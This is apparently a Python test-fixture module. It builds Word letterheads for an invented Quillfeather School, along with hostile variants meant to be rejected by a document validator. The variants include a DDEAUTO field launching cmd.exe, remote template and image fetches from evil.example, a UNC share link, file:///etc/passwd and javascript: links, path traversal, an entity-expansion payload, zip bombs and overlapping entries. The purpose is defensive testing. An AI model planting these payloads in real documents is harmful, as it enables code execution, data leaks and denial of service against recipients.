"""Word files of an invented school for the checks: letterheads of three programs, and broken or hostile ones."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import docx
from docx.shared import Cm, RGBColor


def picture(width: int = 60, height: int = 24) -> bytes:
    """Return a PNG picture of one colour, made as the PNG specification (W3C, 2003) says."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = b"".join(b"\0" + bytes((29, 111, 92)) * width for _ in range(height))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def letterhead() -> bytes:
    """Return a letterhead as python-docx makes it: a logo and a name above, an address below, own headings."""
    document = docx.Document()
    section = document.sections[0]
    above = section.header.paragraphs[0]
    above.add_run().add_picture(io.BytesIO(picture()), height=Cm(1.2))
    above.add_run(" Quillfeather School").bold = True
    section.footer.paragraphs[0].text = "12 Sparrow Lane"
    for style, color in (("Heading 1", (29, 111, 92)), ("Heading 2", (160, 60, 10))):
        document.styles[style].font.color.rgb = RGBColor(*color)  # type: ignore[attr-defined]
        document.styles[style].font.name = "Liberation Serif"  # type: ignore[attr-defined]
        fonts = document.styles[style].element.rPr.rFonts
        for theme in [key for key in fonts.attrib if key.endswith(("Theme", "theme"))]:
            del fonts.attrib[theme]
    document.styles["Normal"].font.name = "Liberation Sans"  # type: ignore[attr-defined]
    document.styles.add_style("Squad list", 1).font.italic = True  # type: ignore[attr-defined]
    return saved(document)


def saved(document: docx.document.Document) -> bytes:
    """Return the bytes of a document."""
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def repacked(content: bytes, change: Callable[[dict[str, bytes]], object]) -> bytes:
    """Return a Word file with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    change(parts)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return stream.getvalue()


_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _related(
    kind: str, target: str, *, outside: bool = True, of: str = "document.xml"
) -> Callable[[dict[str, bytes]], object]:
    mode = ' TargetMode="External"' if outside else ""
    row = f'<Relationship Id="rIdEvil" Type="{_RELATION}/{kind}" Target="{target}"{mode}/></Relationships>'

    def change(parts: dict[str, bytes]) -> None:
        name = f"word/_rels/{of}.rels"
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        parts[name] = parts.get(name, empty).replace(b"</Relationships>", row.encode())

    return change


def _replaced(name: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], object]:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new, 1)

    return change


def _field(code: bytes) -> Callable[[dict[str, bytes]], object]:
    runs = b"".join(
        b"<w:r>%s</w:r>" % part
        for part in (
            b'<w:fldChar w:fldCharType="begin"/>',
            b"<w:instrText>%s</w:instrText>" % code[:3],
            b"<w:instrText>%s</w:instrText>" % code[3:],
            b'<w:fldChar w:fldCharType="end"/>',
        )
    )
    return _replaced("word/document.xml", b"<w:body>", b"<w:body><w:p>%s</w:p>" % runs)


_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&b;</w:styles>'
)


def _twice(content: bytes) -> bytes:
    stream = io.BytesIO(content)
    with zipfile.ZipFile(stream, "a") as package:
        info = zipfile.ZipInfo("word/Document.xml")
        package.writestr(info, b"<w/>")
    return stream.getvalue()


def _encrypted(content: bytes) -> bytes:
    """Return a file whose entries claim to be encrypted (PKWARE APPNOTE 4.4.4, bit 0)."""
    marked = bytearray(content)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = marked.find(sign)
        while at >= 0:
            marked[at + place] |= 1
            at = marked.find(sign, at + 4)
    return bytes(marked)


def _overlapping(content: bytes) -> bytes:
    """Return a file whose second entry lies where the first one does, as in bombs of overlapping parts."""
    marked = bytearray(content)
    first = marked.find(b"PK\x01\x02")
    second = marked.find(b"PK\x01\x02", first + 4)
    marked[second + 42 : second + 46] = marked[first + 42 : first + 46]
    return bytes(marked)


def hostile() -> dict[str, tuple[bytes, str]]:
    """Return files that must be refused, each with words of the sentence that refuses it."""
    good = letterhead()
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

    def made(change: Callable[[dict[str, bytes]], object]) -> bytes:
        return repacked(good, change)

    return {
        "empty": (b"", "cut off or damaged"),
        "text": (b"Dear families,", "cut off or damaged"),
        "cut off": (good[: len(good) // 2], "cut off or damaged"),
        "old Word or password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "old Word file or has a password"),
        "no document": (made(lambda parts: parts.pop("word/document.xml")), "no document in it"),
        "no types": (made(lambda parts: parts.pop("[Content_Types].xml")), "no list of content types"),
        "another format": (
            made(lambda parts: parts.update({"mimetype": b"application/vnd.oasis.opendocument.text"})),
            "is an OpenDocument file",
        ),
        "broken XML": (made(lambda parts: parts.update({"word/styles.xml": b"<w:styles>"})), "not well-formed"),
        "macros": (made(lambda parts: parts.update({"word/vbaProject.bin": b"x"})), "macros"),
        "macro type": (
            made(_replaced("[Content_Types].xml", main, b"application/vnd.ms-word.document.macroEnabled.main+xml")),
            "macros",
        ),
        "a spreadsheet": (
            made(
                _replaced(
                    "[Content_Types].xml",
                    main,
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                )
            ),
            "another kind of Office file",
        ),
        "template": (
            made(_related("attachedTemplate", "http://evil.example/a.dotm", of="settings.xml")),
            "template elsewhere",
        ),
        "remote picture": (made(_related("image", "http://evil.example/a.png")), "fetches a part from elsewhere"),
        "remote picture in header": (made(_related("image", "http://evil.example/a.png", of="header1.xml")), "fetches"),
        "share": (made(_related("image", "\\\\evil.example\\share\\a.png")), "fetches a part from elsewhere"),
        "file link": (made(_related("hyperlink", "file:///etc/passwd")), "neither a web nor a mail address"),
        "script link": (made(_related("hyperlink", "javascript:alert(1)")), "neither a web nor a mail address"),
        "object": (made(_related("oleObject", "embeddings/a.bin", outside=False)), "another file or object"),
        "alternative part": (made(_related("aFChunk", "a.html", outside=False)), "another file or object"),
        "path": (made(_related("image", "../../../../etc/passwd", outside=False)), "outside of itself"),
        "document type": (made(lambda parts: parts.update({"word/styles.xml": _LAUGHS})), "document type or entities"),
        "field DDE": (made(_field(b' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "DDEAUTO"),
        "field picture": (made(_field(b' INCLUDEPICTURE "http://evil.example/a.png"')), "INCLUDEPICTURE"),
        "name": (made(lambda parts: parts.update({"../evil.xml": b"<a/>"})), "leads out of the file"),
        "absolute name": (made(lambda parts: parts.update({"/etc/evil.xml": b"<a/>"})), "leads out of the file"),
        "twice": (_twice(good), "twice"),
        "bomb": (made(lambda parts: parts.update({"word/media/a.bin": bytes(20 * 2**20)})), "far too large"),
        "many parts": (made(lambda parts: parts.update({f"x/{n}.xml": b"<a/>" for n in range(2001)})), "a few dozen"),
        "deep": (made(lambda parts: parts.update({"word/x.xml": b"<a>" * 999 + b"</a>" * 999})), "deeper than any"),
        "encrypted": (_encrypted(good), "password"),
        "overlap": (_overlapping(good), "sound Word file"),
    }
